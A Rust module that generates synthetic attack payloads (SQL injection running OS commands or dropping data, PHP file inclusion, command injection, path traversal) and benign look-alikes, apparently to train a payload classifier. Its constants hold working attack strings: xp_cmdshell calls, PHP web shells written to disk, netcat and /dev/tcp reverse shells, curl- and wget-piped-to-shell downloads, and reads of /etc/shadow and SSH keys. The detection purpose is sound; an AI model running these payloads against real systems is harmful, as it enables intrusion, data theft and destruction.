//! Project-written attack payloads for the kinds the real payload set lacks: SQL injection
//! that runs operating-system commands or destroys data (none of the 7,235 SQL injection
//! payloads of `payload_train.csv` does either), and local file inclusion through PHP stream
//! wrappers, `/proc` and log files (its path-traversal payloads are all `../` and drive paths);
//! command injections and path traversals more varied than the real set's (59 command
//! injections, nearly all `id` behind a separator; 193 traversals, 164 of them fuzzdb
//! templates ending in a literal `{file}`); and ordinary values that hold the characters and
//! words those attacks use. They only ever join the training side; every held-out payload
//! stays a real one.

use super::Rng;

/// Where a stacked or appended SQL statement starts: what closes the original value.
const SQL_OPENERS: [&str; 8] = ["1", "1'", "1)", "x'", "'", "1\"", "9999'", "-1"];
/// What ends an injected statement so the rest of the original query is ignored.
const SQL_CLOSERS: [&str; 6] = ["--", "-- -", "#", "/*", ";--", ""];

/// Operating-system commands an attacker runs first on a database host.
const COMMANDS: [&str; 16] = [
    "whoami",
    "ipconfig /all",
    "net user",
    "hostname",
    "dir C:\\",
    "type C:\\Windows\\win.ini",
    "ping -n 3 {ip}",
    "nslookup {host}.oast.example",
    "certutil -urlcache -f http://{ip}/a.exe C:\\Windows\\Temp\\a.exe",
    "powershell -nop -w hidden -c iwr http://{ip}/s.ps1|iex",
    "net localgroup administrators",
    "id",
    "uname -a",
    "cat /etc/passwd",
    "curl http://{ip}/x.sh|sh",
    "wget -qO- http://{ip}/k|bash",
];

/// Statements that run a command (`{cmd}`) from inside the database, per engine.
const OS_COMMAND_BODIES: [&str; 9] = [
    "EXEC xp_cmdshell('{cmd}')",
    "EXEC master..xp_cmdshell '{cmd}'",
    "exec master.dbo.xp_cmdshell '{cmd}'",
    "EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE",
    "DECLARE @s INT;EXEC sp_OACreate 'WScript.Shell',@s OUT;EXEC sp_OAMethod @s,'Run',NULL,'cmd /c {cmd}'",
    "COPY (SELECT '') TO PROGRAM '{cmd}'",
    "SELECT sys_exec('{cmd}')",
    "SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/{name}.php'",
    "UNION SELECT 1,'<?php passthru($_REQUEST[\"x\"]); ?>' INTO DUMPFILE '/var/www/{name}.php'",
];

/// Statements that destroy or rewrite data (`{t}` a table).
const DESTRUCTIVE_BODIES: [&str; 9] = [
    "DROP TABLE {t}",
    "DROP TABLE IF EXISTS {t}",
    "DROP DATABASE {db}",
    "TRUNCATE TABLE {t}",
    "DELETE FROM {t}",
    "DELETE FROM {t} WHERE 1=1",
    "UPDATE {t} SET password='{name}' WHERE '1'='1'",
    "UPDATE users SET role='admin'",
    "INSERT INTO users (username,password,role) VALUES ('{name}','{name}','admin')",
];

const TABLES: [&str; 9] = [
    "users",
    "accounts",
    "orders",
    "customers",
    "sessions",
    "payments",
    "products",
    "wp_users",
    "admin",
];
const DATABASES: [&str; 4] = ["shop", "production", "app", "crm"];
const NAMES: [&str; 6] = ["shell", "cmd", "x", "up", "s", "pwn"];

/// Files that PHP wrappers read back as source.
const PHP_SOURCES: [&str; 7] = [
    "index.php",
    "config.php",
    "wp-config.php",
    "db.php",
    "settings.php",
    "../config/database.php",
    "includes/connect.php",
];
/// Base64 of small PHP shells, as `data://` inclusions carry them.
const PHP_SHELLS_B64: [&str; 4] = [
    "PD9waHAgc3lzdGVtKCRfR0VUWyJjbWQiXSk7ID8+",
    "PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "PD9waHAgZWNobyBzaGVsbF9leGVjKCRfR0VUWyJjIl0pOyA/Pg==",
    "PD9waHAgcGFzc3RocnUoJF9SRVFVRVNUWyJ4Il0pOyA/Pg==",
];
/// Files whose inclusion turns an injected line into code (log and session poisoning) or
/// leaks the process's secrets.
const LFI_TARGETS: [&str; 14] = [
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/proc/self/fd/{fd}",
    "/proc/self/status",
    "/var/log/apache2/access.log",
    "/var/log/apache2/error.log",
    "/var/log/nginx/access.log",
    "/var/log/httpd/access_log",
    "/var/log/auth.log",
    "/var/log/vsftpd.log",
    "/var/lib/php/sessions/sess_{hex}",
    "/tmp/sess_{hex}",
    "C:\\xampp\\apache\\logs\\access.log",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex250315.log",
];

/// A public-looking IPv4 address for a callback or a ping.
fn random_ip(rng: &mut Rng) -> String {
    format!(
        "{}.{}.{}.{}",
        rng.range(11, 223),
        rng.range(0, 255),
        rng.range(0, 255),
        rng.range(1, 254)
    )
}

fn fill(rng: &mut Rng, template: &str) -> String {
    let ip = random_ip(rng);
    let cmd = rng.pick(&COMMANDS).replace("{ip}", &ip);
    let host = format!("{:x}", rng.range(0x1000_0000, 0xffff_ffff));
    let (table, db, name) = (*rng.pick(&TABLES), *rng.pick(&DATABASES), *rng.pick(&NAMES));
    let fd = rng.range(0, 12).to_string();
    let hex = format!("{:016x}", rng.range(0, u64::MAX - 1));
    template
        .replace("{cmd}", &cmd)
        .replace("{ip}", &ip)
        .replace("{host}", &host)
        .replace("{t}", table)
        .replace("{db}", db)
        .replace("{name}", name)
        .replace("{fd}", &fd)
        .replace("{hex}", &hex)
}

/// One SQL injection from `bodies`: an opener, then the statement stacked (`;`) or, for a
/// UNION, appended, then a closer.
fn sql_injection(rng: &mut Rng, bodies: &[&str]) -> String {
    let template = *rng.pick(bodies);
    let body = fill(rng, template);
    let opener = *rng.pick(&SQL_OPENERS);
    let joint = if body.starts_with("UNION") {
        " "
    } else {
        *rng.pick(&["; ", ";", " ; "])
    };
    format!("{opener}{joint}{body}{}", rng.pick(&SQL_CLOSERS))
}

/// `n` SQL injections that run OS commands and `n` that destroy data.
pub fn sql_injections(rng: &mut Rng, n: usize) -> Vec<String> {
    let mut out: Vec<String> = (0..n)
        .map(|_| sql_injection(rng, &OS_COMMAND_BODIES))
        .collect();
    out.extend((0..n).map(|_| sql_injection(rng, &DESTRUCTIVE_BODIES)));
    out
}

/// One local file inclusion: a PHP wrapper, or a `/proc`, log or session file, sometimes
/// with the NUL byte old PHP versions cut the extension at.
pub fn file_inclusion(rng: &mut Rng) -> String {
    let value = match rng.below(7) {
        0 => format!(
            "php://filter/convert.base64-encode/resource={}",
            rng.pick(&PHP_SOURCES)
        ),
        1 => format!(
            "php://filter/read=string.rot13/resource={}",
            rng.pick(&PHP_SOURCES)
        ),
        2 => "php://input".to_string(),
        3 => format!("data://text/plain;base64,{}", rng.pick(&PHP_SHELLS_B64)),
        4 => match rng.below(3) {
            0 => fill(rng, "expect://{cmd}"),
            1 => fill(rng, "zip://uploads/{name}.zip#{name}.php"),
            _ => fill(rng, "phar://uploads/avatar_{fd}.jpg/{name}.php"),
        },
        _ => {
            let target = *rng.pick(&LFI_TARGETS);
            fill(rng, target)
        }
    };
    if rng.chance(0.15) {
        format!("{value}\0")
    } else {
        value
    }
}

/// Shell commands a command injection runs, Unix and Windows: recon, blind timing probes,
/// downloads and reverse shells (`{n}` a count, `{port}` a port).
const SHELL_COMMANDS: [&str; 28] = [
    "id",
    "/usr/bin/id",
    "whoami",
    "uname -a",
    "cat /etc/passwd",
    "cat /etc/shadow",
    "ls -la /",
    "ls /var/www/html",
    "ps aux",
    "netstat -an",
    "ifconfig",
    "sleep {n}",
    "/bin/sleep {n}",
    "ping -c {n} 127.0.0.1",
    "ping -i {n} {ip}",
    "nc -e /bin/sh {ip} {port}",
    "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
    "curl -s http://{ip}/x.sh | sh",
    "wget http://{ip}/b -O /tmp/b",
    "nslookup {host}.oast.example",
    "echo {host}",
    "dir c:\\",
    "type c:\\windows\\win.ini",
    "net user",
    "ipconfig /all",
    "ping -n {n} 127.0.0.1",
    "timeout /t {n}",
    "systeminfo",
];

/// What the injected command follows: the value the application expected, sometimes closed.
const SHELL_PREFIXES: [&str; 12] = [
    "",
    "",
    "a",
    "127.0.0.1",
    "8.8.8.8",
    "example.com",
    "report.pdf",
    "1",
    "a)",
    "x'",
    "x\"",
    "test",
];

/// How a command is chained to the expected value.
const SHELL_SEPARATORS: [&str; 9] = [";", "|", "||", "&", "&&", "\n", "; ", " | ", " && "];

fn shell_command(rng: &mut Rng) -> String {
    let ip = random_ip(rng);
    rng.pick(&SHELL_COMMANDS)
        .replace("{n}", &rng.range(3, 40).to_string())
        .replace("{ip}", &ip)
        .replace("{port}", &rng.range(1024, 65535).to_string())
        .replace(
            "{host}",
            &format!("{:x}", rng.range(0x1000_0000, 0xffff_ffff)),
        )
}

/// One OS command injection: a command chained after a value, substituted (`` `…` ``,
/// `$(…)`), run by server-side includes or PHP, or sent bare.
pub fn command_injection(rng: &mut Rng) -> String {
    let cmd = shell_command(rng);
    let prefix = *rng.pick(&SHELL_PREFIXES);
    match rng.below(10) {
        0 => format!("{prefix}`{cmd}`"),
        1 => format!("{prefix}$({cmd})"),
        2 => match rng.below(3) {
            0 => format!("<!--#exec cmd=\"{cmd}\"-->"),
            1 => format!(";system('{cmd}')"),
            _ => format!("{prefix}';passthru('{cmd}');'"),
        },
        3 => cmd,
        _ => {
            let sep = *rng.pick(&SHELL_SEPARATORS);
            // Scanners often end with a separator too, so what follows in the original
            // command line is run apart.
            let end = if rng.chance(0.3) {
                *rng.pick(&SHELL_SEPARATORS)
            } else {
                ""
            };
            format!("{prefix}{sep}{cmd}{}", end.trim_end())
        }
    }
}

/// One `..` step of a traversal, as written raw, encoded, doubled or filter-dodging.
const TRAVERSAL_STEPS: [&str; 12] = [
    "../",
    "../",
    "..\\",
    "%2e%2e%2f",
    "%2e%2e/",
    "..%2f",
    "..%5c",
    "%252e%252e%252f",
    "..%c0%af",
    "....//",
    "..././",
    "..;/",
];

/// Files a traversal reaches for, below the file-system root.
const TRAVERSAL_TARGETS: [&str; 20] = [
    "etc/passwd",
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "etc/group",
    "etc/issue",
    "root/.ssh/id_rsa",
    "root/.bash_history",
    "var/www/html/config.php",
    "var/www/.env",
    "etc/nginx/nginx.conf",
    "etc/apache2/apache2.conf",
    "windows/win.ini",
    "windows/system32/drivers/etc/hosts",
    "boot.ini",
    "inetpub/wwwroot/web.config",
    "WEB-INF/web.xml",
    ".env",
    ".git/config",
    "app/etc/local.xml",
];

/// Where a traversal starts: nothing, the root, or a folder the application serves from.
const TRAVERSAL_STARTS: [&str; 6] = ["", "", "/", "./", "images/", "files/"];

/// One path traversal: `..` steps up to the root, then a sensitive file; or an absolute
/// drive or `file:` path to one. Sometimes with a NUL byte to cut an appended extension.
pub fn path_traversal(rng: &mut Rng) -> String {
    let target = *rng.pick(&TRAVERSAL_TARGETS);
    let value = if rng.chance(0.15) {
        let windows_target = target.replace('/', "\\");
        match rng.below(4) {
            0 => format!("c:/{target}"),
            1 => format!("C:\\{windows_target}"),
            2 => format!("file:///{target}"),
            _ => format!("file:/c:/{target}"),
        }
    } else {
        let step = *rng.pick(&TRAVERSAL_STEPS);
        let depth = rng.range(1, 10) as usize;
        let target = if step.contains('\\') || step.contains("5c") {
            target.replace('/', "\\")
        } else {
            target.to_string()
        };
        format!(
            "{}{}{target}",
            rng.pick(&TRAVERSAL_STARTS),
            step.repeat(depth)
        )
    };
    match rng.below(10) {
        0 => format!("{value}%00"),
        1 => format!("{value}\0.png"),
        _ => value,
    }
}

/// Words that are shell commands and ordinary words alike.
const COMMAND_WORDS: [&str; 10] = [
    "cat", "id", "ping", "sleep", "who", "net", "type", "dir", "echo", "find",
];
const NOUNS: [&str; 12] = [
    "food", "card", "pong", "mask", "toys", "guide", "tables", "lamp", "bag", "shoes", "Sons", "Co",
];

/// One ordinary value that holds what attacks use (`&`, `;`, `|`, `/`, `..`, command words),
/// so that the model learns those marks alone are not an attack.
pub fn ordinary_value(rng: &mut Rng) -> String {
    let (w, n) = (*rng.pick(&COMMAND_WORDS), *rng.pick(&NOUNS));
    let year = rng.range(2015, 2026);
    let k = rng.range(1, 999);
    match rng.below(9) {
        0 => format!("{w} {n}"),
        1 => format!("Smith & {n}"),
        2 => format!("{w};{n};lamp"),
        3 => format!("red|green|{n}"),
        4 => format!("docs/{year}/report_{k}.pdf"),
        5 => format!("images/{n}/photo_{k}.jpg"),
        6 => format!("R&D {w} {n}"),
        7 => format!("wait... {w} {n}"),
        _ => format!("{year}/{:02}/{:02}", rng.range(1, 12), rng.range(1, 28)),
    }
}

#[cfg(test)]
mod tests {
    use super::super::labels::sqli_label;
    use super::*;

    #[test]
    fn sql_injections_get_the_subtype_they_were_written_for() {
        let mut rng = Rng::new(7);
        let n = 300;
        let all = sql_injections(&mut rng, n);
        assert_eq!(all.len(), 2 * n);
        for p in &all[..n] {
            assert_eq!(sqli_label(p), "SQL Injection — OS Command via SQLi", "{p}");
        }
        for p in &all[n..] {
            assert_eq!(sqli_label(p), "SQL Injection — Destructive SQLi", "{p}");
        }
        // Varied, not one string repeated.
        let distinct: std::collections::HashSet<&String> = all.iter().collect();
        assert!(distinct.len() > n, "{} distinct", distinct.len());
    }

    #[test]
    fn file_inclusions_never_traverse() {
        let mut rng = Rng::new(7);
        let all: Vec<String> = (0..500).map(|_| file_inclusion(&mut rng)).collect();
        for p in &all {
            // `../` is path traversal's mark; the one exception is a wrapper's resource name.
            assert!(!p.contains("../") || p.starts_with("php://filter"), "{p}");
            assert!(!p.contains('{'), "unfilled template: {p}");
        }
        assert!(all.iter().any(|p| p.starts_with("php://")));
        assert!(all.iter().any(|p| p.starts_with("/proc/self/")));
        assert!(all.iter().any(|p| p.contains("/var/log/")));
    }

    #[test]
    fn command_injections_run_a_command_and_traversals_climb_or_name_a_drive() {
        let mut rng = Rng::new(7);
        let verbs = [
            "id",
            "whoami",
            "uname",
            "cat ",
            "ls ",
            "ps ",
            "netstat",
            "ifconfig",
            "sleep",
            "ping",
            "nc ",
            "bash ",
            "curl ",
            "wget ",
            "nslookup",
            "echo ",
            "dir ",
            "type ",
            "net ",
            "ipconfig",
            "timeout",
            "systeminfo",
        ];
        let cmdi: Vec<String> = (0..500).map(|_| command_injection(&mut rng)).collect();
        for p in &cmdi {
            assert!(verbs.iter().any(|v| p.contains(v)), "{p}");
            assert!(!p.contains('{'), "unfilled template: {p}");
        }
        let traversals: Vec<String> = (0..500).map(|_| path_traversal(&mut rng)).collect();
        for p in &traversals {
            let climbs = ["..", "%2e%2e", "%252e"].iter().any(|s| p.contains(s));
            let absolute = p.starts_with("c:/") || p.starts_with("C:\\") || p.starts_with("file:/");
            assert!(climbs || absolute, "{p}");
        }
        let distinct = |v: &[String]| v.iter().collect::<std::collections::HashSet<_>>().len();
        assert!(distinct(&cmdi) > 300 && distinct(&traversals) > 250);
    }

    #[test]
    fn ordinary_values_neither_chain_commands_nor_climb() {
        let mut rng = Rng::new(7);
        for _ in 0..500 {
            let v = ordinary_value(&mut rng);
            assert!(
                !v.contains("../") && !v.contains('`') && !v.contains("$("),
                "{v}"
            );
            // A separator is never followed by a command word.
            for sep in [";", "|", "&"] {
                for part in v.split(sep).skip(1) {
                    let first = part.split_whitespace().next().unwrap_or("");
                    assert!(!COMMAND_WORDS.contains(&first), "{v}");
                }
            }
        }
    }
}
